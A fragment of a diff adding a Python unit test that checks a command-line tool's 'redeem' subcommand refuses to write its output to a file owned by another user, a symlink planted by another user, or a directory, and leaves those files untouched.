+        os.chown(theirs, nobody, nobody)
+        planted = self.path("planted.jsonl")
+        mine = self.path("mine.jsonl")
+        with open(mine, "w") as f:
+            f.write("mine\n")
+        os.symlink(mine, planted)
+        os.lchown(planted, nobody, nobody)
+        for path, words in ((theirs, "owned by another user"),
+                            (planted, "symbolic link owned by another user"),
+                            (self.tmp.name, "a directory")):
+            with self.subTest(path=path):
+                r = self.run_cli("redeem", "--types", "phone", "--wait",
+                                 "--output", path, *ids(1))
+                self.assertEqual(r.returncode, 2, r.stderr)
+                self.assertIn(words, r.stderr)
+        self.assertEqual(self.server.requests(), 0)
+        with open(theirs) as f:
+            self.assertEqual(f.read(), "their data\n")
+        self.assertEqual(os.stat(theirs).st_uid, nobody)
+        with open(mine) as f:
+            self.assertEqual(f.read(), "mine\n")
+        self.assertTrue(os.path.islink(planted))
+        self.assertEqual(sorted(os.listdir(self.tmp.name)),
+                         ["mine.jsonl", "planted.jsonl", "theirs.jsonl"])
 
 
 if __name__ == "__main__":
